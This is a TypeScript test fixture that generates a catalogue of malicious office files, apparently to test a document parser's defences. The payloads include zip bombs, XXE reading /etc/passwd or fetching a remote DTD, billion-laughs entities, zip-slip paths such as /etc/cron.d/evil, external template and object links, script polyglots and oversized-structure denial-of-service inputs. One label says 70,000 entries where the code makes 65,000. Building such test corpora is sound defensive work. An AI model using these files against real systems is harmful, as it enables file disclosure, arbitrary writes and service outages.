import { deflateRawSync } from 'node:zlib';
import * as made from '../../tests/support/office.ts';
import { type Packed, zipOf } from '../../tests/support/zip.ts';

const MB = 1024 * 1024;

/** Files made to do harm: the name each comes under, what it is, its bytes. */
export function files(): [name: string, what: string, bytes: () => Buffer][] {
  const good = made.docxFiles(['正文']);
  const packed = new Map<number, Buffer>();
  const zeros = (size: number): Buffer => {
    const known = packed.get(size) ?? deflateRawSync(Buffer.alloc(size));
    packed.set(size, known);
    return known;
  };
  const part = (name: string, content: string): Packed => ({ name, content });
  const word =
    (...more: Packed[]) =>
    () =>
      zipOf([...good, ...more]);
  const rewritten = (change: (text: string) => string) => () =>
    zipOf(
      good.map((one) =>
        one.name === 'word/document.xml' ? { ...one, content: change(String(one.content)) } : one,
      ),
    );
  const before = (prolog: string) => rewritten((text) => text.replace(/^(<\?xml[^>]*\?>)?/, `$1${prolog}`));
  const laughs = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join(
    '',
  );
  const many = (count: number, of: (n: number) => string) =>
    rewritten((text) =>
      text.replace('<w:body>', `<w:body>${Array.from({ length: count }, (_, n) => of(n)).join('')}`),
    );
  const words = (n: number) => `<w:p><w:r><w:t>${(n * 2654435761) % 4294967296}第${n}段</w:t></w:r></w:p>`;
  const file = (name: string) => part(name, 'x');
  const slow = '<w:t>'.repeat(100_000);
  return [
    ['a.docx', 'bomb of 400 MB', word({ name: 'word/media/a.bin', raw: zeros(400 * MB), size: 400 * MB })],
    [
      'a.docx',
      'bomb of 400 MB that says 1 KB',
      word({ name: 'word/comments.xml', raw: zeros(400 * MB), size: 1024 }),
    ],
    [
      'a.docx',
      'bomb in pieces of 60 MB',
      word(...[1, 2, 3].map((n) => ({ name: `word/${n}.xml`, raw: zeros(60 * MB), size: 60 * MB }))),
    ],
    [
      'a.docx',
      'bomb as the text itself',
      () =>
        zipOf(
          good.map((one) =>
            one.name === 'word/document.xml' ? { name: one.name, raw: zeros(60 * MB), size: 60 * MB } : one,
          ),
        ),
    ],
    [
      'a.docx',
      'quine: entries that lie over one another',
      word(
        { name: 'word/b.xml', content: 'x'.repeat(1000) },
        ...Array.from({ length: 500 }, (_, n) => ({
          name: `word/q${n}.xml`,
          content: 'x'.repeat(1000),
          over: 'word/b.xml',
        })),
      ),
    ],
    [
      'a.docx',
      'zip inside zip inside zip',
      () =>
        Array.from({ length: 20 }).reduce<Buffer>(
          (inner) => zipOf([{ name: 'a.docx', content: inner }]),
          zipOf(good),
        ),
    ],
    ['a.docx', '70,000 entries', () => zipOf(Array.from({ length: 65_000 }, (_, n) => file(`w/${n}`)))],
    ['a.docx', 'XXE', before('<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>')],
    ['a.docx', 'XXE by parameter', before('<!DOCTYPE x [<!ENTITY % y SYSTEM "http://x/e.dtd"> %y;]>')],
    ['a.docx', 'a billion laughs', before(`<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]>`)],
    ['a.docx', 'image from a file', () => made.docx(['x'], made.outside('image', 'file:///etc/passwd'))],
    [
      'a.docx',
      'template from a server',
      () => made.docx(['x'], made.outside('attachedTemplate', 'http://x/t.dotm')),
    ],
    ['a.docx', 'frame from a share', () => made.docx(['x'], made.outside('frame', '\\\\x\\share\\a'))],
    ['a.docx', 'object from a server', () => made.docx(['x'], made.outside('oleObject', 'https://x/a'))],
    ['a.docx', 'zip slip', word(file('../../../../tmp/evil'))],
    ['a.docx', 'zip slip, back slashes', word(file('..\\..\\evil'))],
    ['a.docx', 'absolute path', word(file('/etc/cron.d/evil'))],
    ['a.docx', 'drive letter', word(file('C:/evil'))],
    ['a.docx', 'name with a null', word(file('word/a.xml\u0000.exe'))],
    ['a.docx', 'name that turns', word(file('word/\u202egnp.exe'))],
    ['a.docx', 'two parts of one name', word(file('word/document.xml'))],
    ['a.docx', 'the same name in capitals', word(file('WORD/DOCUMENT.XML'))],
    ['a.docx', 'another name inside', word({ ...file('word/a.xml'), local: 'word/b.xml' })],
    ['a.docx', 'encrypted entry', word({ ...file('word/a.xml'), flags: 1 })],
    ['a.docx', 'encrypted by Office', () => made.compound(['EncryptedPackage', 'EncryptionInfo'])],
    ['a.docx', 'macro', word(file('word/vbaProject.bin'))],
    [
      'a.docx',
      'page before it',
      () => zipOf(good, { before: Buffer.from('<html><script>alert(1)</script>') }),
    ],
    ['a.docx', 'page behind it', () => zipOf(good, { after: Buffer.from('<script>alert(1)</script>') })],
    ['a.docx', 'page in its comment', () => zipOf(good, { comment: '<script>alert(1)</script>' })],
    ['a.docx', 'PDF before it', () => zipOf(good, { before: made.pdf() })],
    ['a.docx', 'gap between entries', word({ ...file('word/a.xml'), gap: Buffer.alloc(1000, 60) })],
    ['a.docx', 'cut in half', () => made.docx(['x'.repeat(5000)]).subarray(0, 700)],
    ['a.docx', '1,000,000 paragraphs', many(1_000_000, words)],
    ['a.docx', '1,000,000 equal paragraphs', many(1_000_000, () => '<w:p><w:r><w:t>x</w:t></w:r></w:p>')],
    ['a.docx', '100,000 elements deep', rewritten((text) => text.replace('<w:body>', `<w:body>${slow}`))],
    [
      'a.docx',
      'one attribute of 20 MB',
      rewritten((text) =>
        text.replace(
          '<w:body>',
          `<w:body x="${Array.from({ length: 2_000_000 }, (_, n) => (n * 2654435761) % 99999999).join('')}">`,
        ),
      ),
    ],
    [
      'a.xlsx',
      'xlsx: bomb',
      () =>
        zipOf([
          ...made.xlsxFiles([{ name: 'x', rows: '' }]),
          { name: 'xl/media/a.bin', raw: zeros(400 * MB), size: 400 * MB },
        ]),
    ],
    [
      'a.xlsx',
      'xlsx: data from elsewhere',
      () => zipOf([...made.xlsxFiles([{ name: 'x', rows: '' }]), file('xl/externalLinks/externalLink1.xml')]),
    ],
    [
      'a.xlsx',
      'xlsx: 1,000,000 rows',
      () =>
        made.xlsx([
          {
            name: 'x',
            rows: Array.from(
              { length: 1_000_000 },
              (_, n) =>
                `<row r="${n + 1}"><c r="A${n + 1}"><v>${(n * 2654435761) % 4294967296}</v></c></row>`,
            ).join(''),
          },
        ]),
    ],
    [
      'a.xlsx',
      'xlsx: a cell merged to the end of the world',
      () => made.xlsx([{ name: 'x', rows: made.row(1, ['a']), merges: ['A1:XFD1048576'] }]),
    ],
    ['a.ofd', 'ofd: bomb', () => zipOf([{ name: 'OFD.xml', raw: zeros(400 * MB), size: 400 * MB }])],
    ['a.ofd', 'ofd: a page outside', () => made.ofd('x').subarray(0, -1)],
    ['a.csv', 'csv: one line of 29 MB', () => Buffer.from('"a"",'.repeat((29 * MB) / 5))],
  ];
}
